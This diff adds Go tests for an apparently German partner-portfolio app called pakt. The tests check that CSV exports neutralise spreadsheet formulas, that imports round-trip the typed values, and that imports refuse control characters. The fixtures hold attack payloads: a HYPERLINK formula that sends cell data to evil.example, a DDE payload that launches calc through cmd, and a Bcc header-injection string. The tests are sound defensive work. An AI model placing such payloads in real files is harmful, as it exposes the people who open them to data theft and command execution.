@@ -1,0 +1,186 @@
+package app_test
+
+import (
+	"context"
+	"encoding/csv"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"pakt/internal/app"
+	"pakt/internal/app/apptest"
+	"pakt/internal/auth"
+	"pakt/internal/csvio/csviotest"
+	"pakt/internal/portfolio"
+)
+
+// The values a partner admin or a recruiter might type to attack staff who
+// open an export in a spreadsheet.
+const (
+	evilName   = `=HYPERLINK("http://evil.example?"&A1,"x")`
+	evilRegion = `+cmd|' /C calc'!A0`
+)
+
+// csvColumn returns the values of the named column of a CSV file.
+func csvColumn(t *testing.T, file, name string) []string {
+	t.Helper()
+	recs, err := csv.NewReader(strings.NewReader(file)).ReadAll()
+	if err != nil || len(recs) == 0 {
+		t.Fatalf("read %q: %v", file, err)
+	}
+	i := -1
+	for j, h := range recs[0] {
+		if h == name {
+			i = j
+		}
+	}
+	if i < 0 {
+		t.Fatalf("no column %s in %q", name, recs[0])
+	}
+	var out []string
+	for _, rec := range recs[1:] {
+		out = append(out, rec[i])
+	}
+	return out
+}
+
+// Every export pakt writes — the portfolio download for staff and each
+// export command — shows a partner's formula as text, and the imports read
+// the values back as they were typed.
+func TestExportsNeutraliseFormulas(t *testing.T) {
+	apptest.Engines(t, func(t *testing.T, s *apptest.Server) {
+		ctx := context.Background()
+		org := mustOrg(t, s, "Harmlos GmbH")
+		pa := s.Login(s.CreateUser(auth.RolePartnerAdmin, org).Email)
+		if r := pa.JSON("PATCH", "/api/v1/partners/"+org, map[string]string{"legal_name": evilName, "region": evilRegion, "city": "@handle"}); r.Status != 200 {
+			t.Fatalf("partner admin renames: %d %s", r.Status, r.Body)
+		}
+		manager := s.CreateUser(auth.RoleManager, "")
+		staff := s.Login(manager.Email)
+		criteria, err := s.App.Portfolio.Criteria(ctx, manager.Actor())
+		if err != nil {
+			t.Fatal(err)
+		}
+		ratings := map[string]portfolio.RatingInput{}
+		for _, c := range criteria {
+			if c.Active {
+				ratings[c.ID] = portfolio.RatingInput{Score: ptr(3)}
+			}
+		}
+		if r := staff.JSON("POST", "/api/v1/partners/"+org+"/assessments", map[string]any{"ratings": ratings, "note": "-5 % gegenüber Vorjahr"}); r.Status != 201 {
+			t.Fatalf("assess: %d %s", r.Status, r.Body)
+		}
+		if r := staff.JSON("POST", "/api/v1/prospects", map[string]string{"legal_name": "@Interessent GmbH", "city": evilRegion, "next_step": "+49 30 1234567 anrufen"}); r.Status != 201 {
+			t.Fatalf("create prospect: %d %s", r.Status, r.Body)
+		}
+
+		download := staff.Get("/portfolio/export.csv")
+		if download.Status != 200 || !strings.HasPrefix(download.Header.Get("Content-Type"), "text/csv") {
+			t.Fatalf("portfolio export: %d %s", download.Status, download.Body)
+		}
+		exports := map[string]string{"/portfolio/export.csv": download.Body}
+		for _, what := range []string{"partners", "assessments", "prospects"} {
+			code, out := run(t, "export", what, "--database", s.Database)
+			if code != 0 {
+				t.Fatalf("export %s: %d %s", what, code, out)
+			}
+			exports["pakt export "+what] = out
+		}
+		for name, file := range exports {
+			if bad := csviotest.FormulaCells(t, file); len(bad) > 0 {
+				t.Errorf("%s has cells a spreadsheet runs as formulas: %q", name, bad)
+			}
+		}
+		if got := csvColumn(t, download.Body, "legal_name"); len(got) != 1 || got[0] != "'"+evilName {
+			t.Errorf("the portfolio export names the partner %q, want it as text", got)
+		}
+
+		// Each export imports back into a fresh database as the values that
+		// were typed: exported again, it is the same file.
+		dir := t.TempDir()
+		var names []string
+		for _, what := range []string{"partners", "prospects"} {
+			fresh := filepath.Join(dir, what+".db")
+			if code, out := run(t, "migrate", "--database", fresh); code != 0 {
+				t.Fatal(out)
+			}
+			if code, out := run(t, "user", "create", "--role", "manager", "--email", manager.Email, "--name", "M", "--password", "long-enough-1", "--database", fresh); code != 0 {
+				t.Fatal(out)
+			}
+			file := filepath.Join(dir, what+".csv")
+			os.WriteFile(file, []byte(exports["pakt export "+what]), 0o644)
+			if code, out := run(t, "import", what, file, "--database", fresh); code != 0 {
+				t.Fatalf("import %s: %d %s", what, code, out)
+			}
+			if _, again := run(t, "export", what, "--database", fresh); again != exports["pakt export "+what] {
+				t.Errorf("export → import → export of %s differs:\n%s\n---\n%s", what, exports["pakt export "+what], again)
+			}
+			a, err := app.Open(ctx, app.Config{Database: fresh})
+			if err != nil {
+				t.Fatal(err)
+			}
+			all, err := a.Partners.All(ctx, auth.System)
+			a.Close()
+			if err != nil {
+				t.Fatal(err)
+			}
+			for _, o := range all {
+				names = append(names, what+": "+o.LegalName+" / "+o.Region+" / "+o.City)
+			}
+		}
+		for _, want := range []string{"partners: " + evilName + " / " + evilRegion + " / @handle", "prospects: @Interessent GmbH /  / " + evilRegion} {
+			if !slices.Contains(names, want) {
+				t.Errorf("after the imports the organisations are %q, want %q among them", names, want)
+			}
+		}
+
+		file := filepath.Join(dir, "assessments.csv")
+		os.WriteFile(file, []byte(exports["pakt export assessments"]), 0o644)
+		if code, out := run(t, "import", "assessments", file, "--database", s.Database); code != 0 {
+			t.Fatalf("import assessments: %d %s", code, out)
+		}
+		history, err := s.App.Portfolio.History(ctx, manager.Actor(), org)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, as := range history {
+			if as.Note != "-5 % gegenüber Vorjahr" {
+				t.Errorf("an assessment's note came back as %q", as.Note)
+			}
+		}
+		if len(history) != 2 {
+			t.Errorf("%d assessments after importing the export, want 2", len(history))
+		}
+	})
+}
+
+// The prospects and assessments imports name the row and column of a
+// control character, and import nothing.
+func TestImportsRefuseControlCharacters(t *testing.T) {
+	dir := t.TempDir()
+	db := filepath.Join(dir, "pakt.db")
+	if code, out := run(t, "migrate", "--database", db); code != 0 {
+		t.Fatal(out)
+	}
+	for _, tc := range []struct{ what, file, want string }{
+		{"prospects", "legal_name,city,next_step\n\"Neu GmbH\nBcc: victim@evil.example\",Köln,\nZwei GmbH,Bo\x00nn,\nDrei GmbH,,\"Anrufen\u2028morgen\"\n",
+			"row 2, column legal_name: Must not contain control characters or line breaks.\n" +
+				"row 3, column city: Must not contain control characters or line breaks.\n" +
+				"row 4, column next_step: Must not contain control characters or line breaks.\n"},
+		{"assessments", "org_id,legal_name,note\n,\"Evil\x00 GmbH\",\n\"a\u0085b\",,\n",
+			"row 2, column legal_name: Must not contain control characters or line breaks.\n" +
+				"row 3, column org_id: Must not contain control characters or line breaks.\n"},
+	} {
+		file := filepath.Join(dir, tc.what+".csv")
+		os.WriteFile(file, []byte(tc.file), 0o644)
+		code, out := run(t, "import", tc.what, file, "--database", db)
+		if code != 1 || !strings.HasPrefix(out, tc.want) || !strings.Contains(out, "nothing was imported") {
+			t.Errorf("import %s: exit %d\n%s\nwant it to start\n%s", tc.what, code, out, tc.want)
+		}
+	}
+	if _, out := run(t, "export", "prospects", "--database", db); strings.Count(out, "\n") != 1 {
+		t.Errorf("prospects after refused imports:\n%s", out)
+	}
+}
